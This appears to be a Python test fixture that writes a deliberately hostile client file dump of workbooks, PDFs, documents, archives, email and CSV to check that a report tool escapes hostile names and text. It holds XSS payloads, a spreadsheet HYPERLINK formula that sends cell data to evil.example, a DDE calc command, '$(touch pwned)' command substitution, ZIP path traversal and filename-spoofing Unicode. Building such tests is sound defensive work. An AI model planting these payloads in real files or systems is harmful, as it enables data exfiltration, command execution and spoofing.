"""A client's dump in which every name and text would act: markup, formulas, escapes, letters that hide or reorder."""

import io
import os
import zipfile
from contextlib import suppress
from email.message import EmailMessage
from pathlib import Path

SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
LINK = "[click](javascript:alert(3))"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
WIDE = "＝1+1"
REORDERED = "invoice\u202efdp.exe"
COLOURED = "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m"
SEPARATED = "two\u2028lines\u2029of text\ufeff\u200b"
TEMPLATE = "{{ 7 * 191 }}{% raw %}${7*191}"
TEXTS = (
    SCRIPT,
    LINK,
    FORMULA,
    COMMAND,
    WIDE,
    REORDERED,
    COLOURED,
    SEPARATED,
    TEMPLATE,
    "\t=1+1",
    "-2+3",
    "+1",
    "| a | b |",
)
NAMES = (
    '=HYPERLINK("http:\u2215\u2215evil.example","y").txt',
    "<img src=x onerror=alert(1)>.txt",
    '"><script>alert(1)<\u2215script>.txt',
    "javascript:alert(1).txt",
    "invoice\u202etxt.exe.txt",
    "a" * 246 + ".txt",
    "Policy.txt",
    "POLICY.TXT",
    "caf\u00e9.txt",
    "cafe\u0301.txt",
    "two\nlines.txt",
    "return\rback.txt",
    "tab\t=1+1.txt",
    "'single' \"double\" `back`.txt",
    "back\\slash.txt",
    "-rf.txt",
    "CON.txt",
    "trailing dot.txt.",
    "trailing space.txt ",
    "＝1+1.txt",
    "@SUM(1+1).txt",
    "\x1b[31mred\x1b[0m.txt",
    "\x9b31m\x7f.txt",
    "hid\u200bden\u2060\ufeff.txt",
    "line\u2028separator.txt",
    "{{ 7 * 191 }}{% raw %}.txt",
    "%s%n%x.txt",
    "$(touch pwned).txt",
    "| a | b |.txt",
    "../x.txt".replace("/", "\u2044"),
    "<b>folder</b>/a&amp;b.txt",
    "=1+1/=2+2.txt",
)
# Files that nobody can open, so that their names stand in the list of exceptions as well.
TORN_NAMES = (
    "=1+1.zip",
    "+1.zip",
    "-2+3.zip",
    "@SUM(1+1)*cmd|' \u2215C calc'!A0.zip",
    "\t=1+1.zip",
    "\r=1+1.zip",
    "\n=1+1.zip",
    " =1+1.zip",
    "＝1+1.zip",
    "\u200b=1+1.zip",
    'quote",=1+1,".zip',
    "<img src=x onerror=alert(1)>.zip",
    "\x1b[31mred.zip",
)
UNDECODABLE = b"bad\xe9\xffbyte.txt"
ENGAGEMENT = f"""client = '''Acme {SCRIPT} {FORMULA}'''
client_aliases = ['''{LINK}''']
instrument = "ab-aasp"
audit_date = 2026-10-15
[[sites]]
name = '''North {SCRIPT}'''
[[sites]]
name = '''{FORMULA}'''
"""


def record(text: str, number: int) -> str:
    """Minutes in which the text stands where names, topics, actions and signatures stand."""
    shown = text.replace("\n", " ").replace("\r", " ")
    return (
        f"Toolbox meeting minutes {shown}\nDate: 2026-0{1 + number % 9}-0{1 + number // 9 % 9}\nSite: {shown}\n"
        f"Attendees: {shown}, A. Lee\nTopic: {shown}\nAction: {shown} Owner: {shown} Due: 2026-03-01\n"
        f"Signed: {shown}\nNumber {number}\n"
    )


def make_dump(root: Path) -> list[str]:
    """Write the engagement; the names that this file system took (undecodable bytes as the report spells them)."""
    inbox = root / "inbox"
    inbox.mkdir(parents=True)
    (root / "engagement.toml").write_text(ENGAGEMENT, encoding="utf-8")
    made = []
    for number, name in enumerate(NAMES):
        path = inbox / name
        with suppress(OSError, ValueError):
            path.parent.mkdir(parents=True, exist_ok=True)
            if not path.exists():
                path.write_text(record(TEXTS[number % len(TEXTS)], number), encoding="utf-8")
                made.append(name)
    for number, name in enumerate(TORN_NAMES):
        with suppress(OSError, ValueError):
            (inbox / name).write_bytes(b"PK\x03\x04broken %d" % number)
            made.append(name)
    with suppress(OSError):
        Path(os.fsdecode(os.fsencode(inbox) + b"/" + UNDECODABLE)).write_text(record("bytes", 90), encoding="utf-8")
        made.append(UNDECODABLE.decode("utf-8", "backslashreplace"))
    for name, data in _carriers().items():
        (inbox / name).write_bytes(data)
        made.append(name)
    return made


def _carriers() -> dict[str, bytes]:
    """Files whose inner names are hostile: sheets, form fields, members, subjects, attachments."""
    return {
        "sheets.xlsx": _workbook(),
        "form.pdf": _form(),
        "title.docx": _document(),
        "members.zip": _archive(),
        "letter.eml": _letter(),
        "table.csv": "\n".join(f'"{text.replace(chr(34), chr(34) * 2)}",x' for text in TEXTS).encode(),
        "page.html": f"<title>{SCRIPT}</title><p>{FORMULA}</p><a href='javascript:alert(1)'>x</a>".encode(),
        "locked ‮gpj.zip": b"PK\x03\x04broken",
    }


def _workbook() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for number, name in enumerate(("=1+1", "<img onerror=x>", "re\u202eversed", "'quote'x")):
        sheet = book.create_sheet(name)
        for text in TEXTS:
            sheet.append([f"Date 2026-02-0{number + 1}", "".join(one for one in text if one >= " " or one in "\t\n")])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _form() -> bytes:
    from reportlab.lib.pagesizes import letter
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, pagesize=letter, invariant=True)
    canvas.setTitle(SCRIPT)
    for line, text in enumerate(
        ("Workplace inspection checklist", "Date: 2026-02-17", SCRIPT, FORMULA, LINK, TEMPLATE)
    ):
        canvas.drawString(60, 720 - 20 * line, text)
    for place, name in enumerate((SCRIPT, FORMULA, LINK)):
        canvas.acroForm.textfield(name=f"{name}{place}", value=name, x=60, y=400 - 30 * place, width=300, height=20)
    canvas.save()
    return out.getvalue()


def _document() -> bytes:
    from docx import Document

    document = Document()
    document.core_properties.title = SCRIPT
    document.add_heading(f"Health and Safety Policy {SCRIPT}", 0)
    for text in (*TEXTS[:5], TEMPLATE, f"Signed: {SCRIPT}, President"):
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number, name in enumerate(
            (f"{SCRIPT}.txt", FORMULA, "../../escape.txt", "two\nlines.txt", REORDERED, "C:\\x.txt")
        ):
            archive.writestr(zipfile.ZipInfo(name, (2026, 2, 1, 8, 0, 0)), record(name, 40 + number))
    return out.getvalue()


def _letter() -> bytes:
    mail = EmailMessage()
    mail["From"], mail["To"] = "ana@bench.example", "bo@bench.example"
    mail["Subject"] = f"{SCRIPT} {FORMULA} {REORDERED}"
    mail["Date"] = "Mon, 02 Feb 2026 08:00:00 -0700"
    mail.set_content(record(SCRIPT, 60))
    for number, name in enumerate((f"{SCRIPT}.txt", FORMULA, REORDERED, "..\\..\\x.txt")):
        mail.add_attachment(record(name, 70 + number), filename=name)
    return mail.as_bytes()
